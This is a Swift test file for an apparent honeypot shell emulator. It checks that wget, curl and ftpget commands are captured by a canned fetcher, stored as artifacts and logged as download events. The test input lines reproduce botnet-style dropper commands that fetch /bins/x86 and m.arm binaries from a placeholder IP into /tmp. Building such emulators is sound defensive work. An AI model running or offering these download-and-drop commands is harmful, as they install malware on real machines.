import Foundation
import MitsuCore
@testable import MitsuShell
import XCTest

/// A fetcher that serves fixed bytes for any URL (no network): proves the seam a real fetcher plugs into.
struct CannedFetcher: Fetcher {
    let body: [UInt8]
    func fetch(_ request: FetchRequest) async -> FetchOutcome {
        request.url.contains("missing") ? .failed(.httpStatus(404, "Not Found")) : .fetched(bytes: body)
    }
}

final class FetcherSeamTests: XCTestCase {
    func testSuccessfulFetchStoresAndPlacesFile() async {
        let body: [UInt8] = [0x7F, 0x45, 0x4C, 0x46] + Array(repeating: 0x41, count: 60)
        let root = NSTemporaryDirectory() + "mitsushell-fetch-\(UUID().uuidString)"
        let host = MitsuHost(dataDirectory: nil, artifacts: ArtifactStore(root: root), fetcher: CannedFetcher(body: body), pacing: NoPacing())
        let io = RecordingIO()
        let (stream, continuation) = AsyncStream<ShellInput>.makeStream()
        continuation.finish()
        let line = "cd /tmp; wget -q http://198.51.100.9/bins/x86; ls -l x86 | cut -d' ' -f5; curl -s -o y http://198.51.100.9/y; md5sum y; wget http://198.51.100.9/missing"
        let status = await host.run(Fixture.request(line, terminal: false), input: stream, io: io)
        XCTAssertEqual(io.out, "64\n\(Digests.md5(body))  y\n")
        XCTAssertTrue(io.err.hasSuffix("HTTP request sent, awaiting response... 404 Not Found\n") == false && io.err.contains("awaiting response... 404 Not Found\n"), io.err)
        XCTAssertTrue(io.err.contains(" ERROR 404: Not Found.\n"), io.err)
        XCTAssertEqual(status, 8)
        let downloads = io.events.filter { $0.kind == .fileDownload }
        XCTAssertEqual(downloads.map(\.url), ["http://198.51.100.9/bins/x86", "http://198.51.100.9/y"])
        XCTAssertEqual(downloads.map(\.filename), ["/tmp/x86", "/tmp/y"])
        XCTAssertEqual(downloads.first?.sha256, Digests.sha256(body))
        XCTAssertEqual(downloads.first?.size, 64)
        let failed = io.events.filter { $0.kind == .fileDownloadFailed }
        XCTAssertEqual(failed.map(\.url), ["http://198.51.100.9/missing"])
        XCTAssertEqual(failed.first?.message, "HTTP 404 Not Found")
        XCTAssertEqual(failed.first?.filename, "/tmp/missing")
        let stored = ArtifactStore(root: root).path(sha256: Digests.sha256(body))
        XCTAssertEqual(FileManager.default.contents(atPath: stored).map { Array($0) }, body)
        try? FileManager.default.removeItem(atPath: root)
    }
}

/// Remembers the URLs asked for (ftpget's login and path encoding, wget's ftp transcript).
final class URLRecordingFetcher: Fetcher, @unchecked Sendable {
    private let lock = Lock()
    private var urls: [String] = []
    var asked: [String] { lock.withLock { urls } }
    func fetch(_ request: FetchRequest) async -> FetchOutcome {
        lock.withLock { urls.append(request.url) }
        return .fetched(bytes: Array("payload".utf8))
    }
}

final class FTPCommandTests: XCTestCase {
    func testFtpgetCarriesLoginInTheURLAndWgetPrintsAnFtpTranscript() async {
        let fetcher = URLRecordingFetcher()
        let host = MitsuHost(dataDirectory: nil, artifacts: nil, fetcher: fetcher, pacing: NoPacing())
        let io = RecordingIO()
        let (stream, continuation) = AsyncStream<ShellInput>.makeStream()
        continuation.finish()
        let line = "cd /tmp; ftpget -u 'bo t' -p 'p@ss/w:' -P 2121 198.51.100.9 a 'dir/x y'; ftpget 198.51.100.9 b c; cat a; wget ftp://198.51.100.9/bins/m.arm"
        _ = await host.run(Fixture.request(line, terminal: false), input: stream, io: io)
        XCTAssertEqual(fetcher.asked, ["ftp://bo%20t:p%40ss%2Fw%3A@198.51.100.9:2121/dir/x%20y", "ftp://198.51.100.9:21/c", "ftp://198.51.100.9/bins/m.arm"])
        XCTAssertEqual(io.out, "payload")
        XCTAssertTrue(io.err.contains("\nConnecting to 198.51.100.9:21... connected.\nLogging in as anonymous ... Logged in!\n"), io.err)
        XCTAssertTrue(io.err.contains("==> TYPE I ... done.  ==> CWD (1) /bins ... done.\n==> SIZE m.arm ... 7\n"), io.err)
        XCTAssertFalse(io.err.contains("HTTP request sent"), io.err)
    }
}
